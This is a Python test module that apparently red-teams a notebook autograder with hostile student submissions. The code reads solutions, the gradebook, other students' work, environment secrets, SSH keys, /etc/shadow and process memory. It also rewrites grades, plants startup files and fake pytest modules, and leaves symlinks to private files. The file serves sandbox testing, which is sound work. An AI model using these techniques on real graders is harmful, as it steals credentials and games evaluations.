"""Answers that read and write what is not theirs. Wrong ones become right where they get through."""

from .. import targets
from ..submission import ALL, Submission, after, attack, honest, lose, write
from ..targets import ASSIGNMENT, NOTEBOOK
from ..world import VICTIM

GATES = """
import glob
import os
import sys


def read(path):
    try:
        with open(path, errors="replace") as file:
            text = file.read(2_000_000)
    except (OSError, ValueError):
        return ""
    print(text[:3000])
    return text


def try_solution(text):
    # The solved answer in the text of a notebook, if there is one.
    import json
    try:
        cells = json.loads(text)["cells"]
    except (ValueError, KeyError, TypeError):
        return
    for cell in cells:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and "def SLUG(" in source and "raise NotImpl" not in source:
            exec(source, globals())


def got_through(proof):
    if proof:
        exec(@RIGHT@, globals())
"""


def thief(name, what, slug, code, **more):
    """A wrong answer that becomes right when *code* gets through (see `GATES`)."""
    gates = GATES.replace("SLUG", slug.replace("-", "_"))
    return attack(name, what, {slug: f"{targets.WRONG[slug]}\n{gates}\n{code.strip()}\n"}, **more)


READERS = [
    thief(
        "reads-the-solutions",
        "the solved notebook, by its path",
        "slugify",
        """
for path in glob.glob("@COURSE@/source/**/*.ipynb", recursive=True):
    try_solution(read(path))
for folder in ("..", "../..", "../../..", "/", os.environ.get("PWD", "/"), os.environ.get("HOME", "/")):
    for path in glob.glob(folder + "/source/*/*.ipynb"):
        try_solution(read(path))
""",
    ),
    thief(
        "looks-everywhere",
        "the solved notebook, through every process's folders and open files",
        "parse-port",
        """
for place in ("cwd", "root", "root@COURSE@"):
    for path in glob.glob(f"/proc/[0-9]*/{place}/source/*/*.ipynb"):
        try_solution(read(path))
for number in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if os.path.isfile(number):
            try_solution(read(number))
        elif os.path.isdir(number):
            for path in glob.glob(number + "/**/source/*/*.ipynb", recursive=True)[:50]:
                try_solution(read(path))
    except OSError:
        pass
for descriptor in range(3, 200):
    try:
        os.fchdir(descriptor)
        for path in glob.glob("source/*/*.ipynb") + glob.glob(".@COURSE@/source/*/*.ipynb"):
            try_solution(read(path))
    except OSError:
        pass
""",
    ),
    thief(
        "walks-the-disk",
        "anything that ends in .ipynb, .db or .md, wherever it lies",
        "count-words",
        """
import time

end = time.monotonic() + 1.5
for top in ("@COURSE@", "@OUTSIDE@", "@REPOSITORY@", "/home", "/root", "/tmp", "/srv", "/mnt", "/"):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "lib", "dev")]
        for name in files:
            if name.endswith((".ipynb", ".db", ".md")) and "site-packages" not in folder:
                text = read(os.path.join(folder, name))
                try_solution(text)
                got_through("BEGIN " + "SOLUTION" in text)
        if time.monotonic() > end:
            break
""",
    ),
    thief(
        "reads-the-repository",
        "lessons, samples and tests of the course that the grader is a part of",
        "moving-average",
        """
import webcourse

root = os.path.dirname(os.path.dirname(webcourse.__file__))
for path in ("lessons", "samples", "tests", "source"):
    for folder in (root, "@REPOSITORY@"):
        try:
            got_through(os.listdir(os.path.join(folder, path)))
        except OSError:
            pass
""",
    ),
    thief(
        "reads-the-gradebook",
        "the gradebook, which holds hidden checks and everybody's points",
        "is-fresh",
        """
import sqlite3

for path in ("@COURSE@/gradebook.db", "gradebook.db", "../../gradebook.db"):
    got_through(read(path))
    try:
        connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        got_through(connection.execute("select source from source_cell").fetchall())
    except sqlite3.Error:
        pass
""",
    ),
    thief(
        "reads-other-students",
        "another student's answers",
        "slugify",
        """
for path in glob.glob("@COURSE@/submitted/*/*/*.ipynb") + glob.glob("@COURSE@/autograded/*/*/*.ipynb"):
    try_solution(read(path))
""",
    ),
    thief(
        "reads-the-environment",
        "environment variables, of its own process and of others",
        "parse-port",
        """
import ctypes

print(os.environ)
got_through("CORPUS_SECRET" in os.environ)
ctypes.CDLL(None).getenv.restype = ctypes.c_char_p
got_through(ctypes.CDLL(None).getenv(b"CORPUS_SECRET"))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
    got_through("CORPUS" + "_SECRET" in read(path))
for path in glob.glob("/proc/[0-9]*/cmdline"):
    got_through("@COURSE@" in read(path))
""",
    ),
    thief(
        "reads-the-home",
        "the passwords of whoever grades",
        "count-words",
        """
for path in ("@HOME@/.netrc", "~/.netrc", "~/.ssh/id_ed25519", "/etc/shadow", "@OUTSIDE@/private.txt"):
    got_through(read(os.path.expanduser(path)))
""",
    ),
    thief(
        "reads-memory",
        "the memory of other processes",
        "is-fresh",
        """
needles = ("kept-from" + "-students").encode(), ("CORPUS" + "_SECRET=").encode()
for number in filter(str.isdigit, os.listdir("/proc")):
    if int(number) == os.getpid():
        continue
    for line in read(f"/proc/{number}/maps").splitlines():
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" in line and end - start < 1 << 28:
            try:
                with open(f"/proc/{number}/mem", "rb") as file:
                    file.seek(start)
                    page = file.read(end - start)
                got_through(any(needle in page for needle in needles))
            except (OSError, OverflowError):
                pass
""",
    ),
]

WRITERS = [
    thief(
        "writes-its-grade",
        "points into the gradebook, receipts and grades",
        "moving-average",
        """
import sqlite3

for path in ("@COURSE@/gradebook.db", "../../gradebook.db"):
    try:
        connection = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        connection.execute("update grade set manual_score = 100, auto_score = 100")
        connection.commit()
        got_through(True)
    except sqlite3.Error:
        pass
for path in ("@COURSE@/grades.csv", "@COURSE@/receipts/@NAME@.json", "@COURSE@/autograded/@NAME@.ipynb"):
    try:
        with open(path, "a") as file:
            got_through(True)
        os.unlink(path)
    except OSError:
        pass
""",
    ),
    thief(
        "writes-outside",
        "files where other people and the grader's own code live",
        "slugify",
        """
import webcourse.lab

for path in (
    "@OUTSIDE@/@NAME@", "@OUTSIDE@/kept/file.txt", "@HOME@/.bashrc", "@COURSE@/@NAME@",
    "@REPOSITORY@/@MARK@", os.path.dirname(webcourse.lab.__file__) + "/@MARK@",
    os.path.dirname(os.__file__) + "/@MARK@", sys.prefix + "/@MARK@", "/etc/@MARK@", "/usr/@MARK@",
):
    try:
        with open(path, "a"):
            got_through(True)
        if "@MARK@" in path:
            os.unlink(path)
    except OSError:
        pass
""",
    ),
    attack(
        "leaves-start-up-files",
        "files that Python, pytest, IPython and the shell run when they start, with a wrong answer",
        {
            "fetch-all": """
                import os
                from pathlib import Path

                async def fetch_all(fetch, names):
                    return None

                evil = "import pathlib; pathlib.Path('@OUTSIDE@/@NAME@').write_text('was here')\\n"
                home = Path(os.path.expanduser("~"))
                for folder in (home, Path.cwd()):
                    for name in (
                        "sitecustomize.py", "usercustomize.py", "conftest.py", "evil.pth",
                        ".ipython/profile_default/startup/00.py", "nbgrader_config.py", "webcourse.py",
                        "pytest.ini", "json.py", "IPython.py", ".pythonrc.py",
                    ):
                        try:
                            (folder / name).parent.mkdir(parents=True, exist_ok=True)
                            (folder / name).write_text(evil)
                        except OSError:
                            pass
            """
        },
    ),
]

SHADOWS = (
    "json",
    "pytest",
    "random",
    "ipytest",
    "asyncio",
    "re",
    "webcourse",
    "conftest",
    "sitecustomize",
)
SHADOW = "raise SystemExit('a module of the student')\n"


def beside_modules(world, folder):
    """Right answers among modules that bear the names of others."""
    write(folder, targets.notebook())
    for name in SHADOWS:
        (folder / f"{name}.py").write_text(SHADOW)
    (folder / "numpy").mkdir()
    (folder / "numpy" / "__init__.py").write_text(SHADOW)
    (folder / "nbgrader_config.py").write_text("raise SystemExit")


def beside_a_fake(world, folder):
    """A wrong answer beside modules that let everything pass."""
    write(folder, targets.notebook({"slugify": targets.WRONG["slugify"]}))
    fake = "import sys\nclass Anything:\n    def __getattr__(self, name): return Anything()\n"
    fake += "    def __call__(self, *given, **named): return Anything()\n"
    fake += "    def __eq__(self, other): return True\n    def __mro_entries__(self, bases): return ()\n"
    for name in ("pytest", "ipytest"):
        (folder / f"{name}.py").write_text(fake + "sys.modules[__name__] = Anything()\n")


MODULES = [
    Submission("shadows", "right answers beside modules named json, pytest, random …", beside_modules),
    Submission(
        "fake-pytest",
        "a wrong answer beside a pytest of its own",
        beside_a_fake,
        lost=lose("slugify"),
    ),
    attack(
        "shadows-at-run-time",
        "modules written beside the notebook while it runs, and forgotten ones imported anew",
        {
            "slugify": f"""
                import importlib
                import os
                import sys

                for folder in {{os.getcwd(), ".", "/tmp"}}:
                    for name in {SHADOWS!r}:
                        try:
                            with open(os.path.join(folder, name + ".py"), "w") as file:
                                file.write("def __getattr__(name): return lambda *a: lambda f: f\\n")
                        except OSError:
                            pass
                    sys.path.insert(0, folder)
                for name in ("pytest", "random", "json", "re"):
                    sys.modules.pop(name, None)
                importlib.invalidate_caches()
            """
        },
    ),
]


# ------------------------------------------------------------------ links


def link_to(world, folder, target):
    folder.rmdir()
    folder.symlink_to(target)


def linked_file(world, folder):
    (folder / f"{NOTEBOOK}.ipynb").symlink_to(
        world.course / "submitted" / VICTIM / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    )


def linked_secret(world, folder):
    (folder / f"{NOTEBOOK}.ipynb").symlink_to(world.outside / "private.txt")


def linked_folder(world, folder):
    link_to(world, folder, world.course / "submitted" / VICTIM / ASSIGNMENT)


def linked_beside(world, folder):
    """Right answers beside links to what is private, which a copy of the folder would bring along."""
    write(folder, targets.notebook({"slugify": after("slugify", READ_NEIGHBORS)}))
    (folder / "data.txt").symlink_to(world.outside / "private.txt")
    (folder / "up").symlink_to(world.course)
    (folder / "loop").symlink_to(".")


READ_NEIGHBORS = """
import os

for folder, folders, files in os.walk(".", followlinks=False):
    for name in files + folders:
        try:
            print(open(os.path.join(folder, name)).read())
        except OSError:
            pass
"""


def with_bad_time(world, folder):
    write(folder, targets.notebook())
    (folder / "timestamp.txt").symlink_to(world.outside / "private.txt")


LINKS = [
    Submission("linked-file", "a link to another's notebook", linked_file, lose(*ALL), ("link",)),
    Submission("linked-secret", "a link to a private file", linked_secret, lose(*ALL), ("link",)),
    Submission("linked-folder", "a link to another's folder", linked_folder, lose(*ALL), ("link",)),
    Submission("linked-neighbors", "links to what is private, beside the notebook", linked_beside),
    Submission("linked-time", "a link to a private file as its time stamp", with_bad_time),
    honest(
        "links-at-run-time",
        "right answers, and links out of the folder for whoever cleans up or copies",
        {
            "slugify": after(
                "slugify",
                """
                import os

                for name, target in {
                    "kept": "@OUTSIDE@/kept", "course": "@COURSE@", "file": "@OUTSIDE@/private.txt",
                    "up": "..", "root": "/", "self": "self", "home": "@HOME@",
                }.items():
                    os.symlink(target, name)
                os.mkdir("locked")
                os.symlink("@OUTSIDE@/kept", "locked/kept")
                os.chmod("locked", 0)
                """,
            )
        },
    ),
    honest(
        "replaces-its-folder",
        "right answers that put a link in place of their folder",
        {
            "count-words": after(
                "count-words",
                """
                import os

                here = os.getcwd()
                try:
                    os.rename(here, here + ".moved")
                    os.symlink("@OUTSIDE@/kept", here)
                except OSError:
                    pass
                """,
            )
        },
    ),
]


def victim(world, folder):
    """Right answers with a word that must not be found with anybody else."""
    secret = f"# {world.secrets[VICTIM]}"
    write(
        folder, targets.notebook({slug: f"{text}\n{secret}" for slug, text in targets.right().items()})
    )


VICTIMS = [Submission(VICTIM, "right answers that others want to copy", victim)]

SUBMISSIONS = [*READERS, *WRITERS, *MODULES, *LINKS, *VICTIMS]
